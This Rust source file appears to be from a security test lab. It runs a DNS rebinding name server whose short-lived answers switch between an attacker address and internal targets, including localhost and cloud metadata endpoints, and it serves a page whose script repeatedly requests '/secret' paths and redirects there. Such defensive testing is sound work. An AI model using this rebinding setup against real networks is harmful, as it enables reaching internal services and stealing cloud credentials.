//! A name server whose names change under a visit (DNS rebinding): to the attacker's own address mostly, to an inner one in between, none of
//! them to be kept.

use std::net::{Ipv4Addr, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;

use anyhow::Context;
use hickory_resolver::proto::op::Message;
use hickory_resolver::proto::rr::{RData, Record, RecordType};

use super::namespace::run as call;

/// The domain of the names.
pub(super) const DOMAIN: &str = "rebinder.top";
/// Where its name server stands.
pub(super) const SERVER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 67);
/// Where names lead the second time: each has a canary at the web's port.
const INNER: [Ipv4Addr; 4] = [
    Ipv4Addr::LOCALHOST,
    Ipv4Addr::new(10, 53, 0, 9),
    Ipv4Addr::new(169, 254, 169, 254),
    Ipv4Addr::new(100, 100, 100, 200),
];
/// How many names are met in each way.
const NAMES: usize = 4;

/// Links to names that change: to a page whose scripts ask for its own host again and again and lead there, and to redirects to it.
pub(super) fn links() -> Vec<String> {
    let ways = ["changes", "again"];
    ways.iter()
        .flat_map(|way| (0..NAMES).map(move |name| format!("http://{way}{name}.{DOMAIN}/{way}/{name}")))
        .collect()
}

/// A page that asks for itself in every way, on new connections, and then leads to itself.
pub(super) fn page(name: usize) -> String {
    let own = format!("http://changes{name}.{DOMAIN}");
    format!(
        "<title>changes</title><p>{}<img src='{own}/picture'><iframe src='{own}/frame'></iframe><script>\
         let n=0;setInterval(()=>{{n++;fetch('{own}/secret'+n,{{cache:'no-store'}});new Image().src='{own}/pixel'+n;\
         if(n>8)location.href='{own}/secret'}},200)</script>",
        "words ".repeat(30)
    )
}

/// A redirect to the same name.
pub(super) fn redirect(name: usize) -> String {
    format!(
        "HTTP/1.1 302 Found\r\nlocation: http://again{name}.{DOMAIN}/secret\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
    )
}

/// How often it led outside, and inside.
#[derive(Clone, Debug, Default)]
pub(super) struct Rebound(Arc<[AtomicUsize; 2]>);

impl Rebound {
    pub(super) fn counts(&self) -> [usize; 2] {
        [0, 1].map(|way| self.0[way].load(Ordering::Relaxed))
    }

    /// The next address of a name.
    fn next(&self, attacker: Ipv4Addr) -> Ipv4Addr {
        let [outside, inside] = self.counts();
        let is_inside = inside * 2 < outside;
        self.0[usize::from(is_inside)].fetch_add(1, Ordering::Relaxed);
        if is_inside { INNER[inside % INNER.len()] } else { attacker }
    }
}

/// Answers until the lab ends.
pub(super) fn stand(attacker: Ipv4Addr) -> anyhow::Result<Rebound> {
    call("ip", &["addr", "replace", &format!("{SERVER}/32"), "dev", "lo"])?;
    let socket = UdpSocket::bind((SERVER, 53)).context("cannot listen for questions about names")?;
    let rebound = Rebound::default();
    let counted = rebound.clone();
    thread::spawn(move || {
        let mut query = [0; 1_232];
        while let Ok((length, asker)) = socket.recv_from(&mut query) {
            let answer = query.get(..length).and_then(|query| answer(query, || counted.next(attacker)));
            if let Some(answer) = answer {
                let _ = socket.send_to(&answer, asker);
            }
        }
    });
    Ok(rebound)
}

/// An authority's answer with one address that holds for no time; none of other types.
fn answer(query: &[u8], address: impl FnOnce() -> Ipv4Addr) -> Option<Vec<u8>> {
    let message = Message::from_vec(query).ok()?;
    let question = message.queries.first()?.clone();
    let mut message = message.into_response();
    message.metadata.authoritative = true;
    message.additionals.clear();
    if question.query_type() == RecordType::A {
        message.answers.push(Record::from_rdata(question.name().clone(), 0, RData::A(address().into())));
    }
    message.to_vec().ok()
}
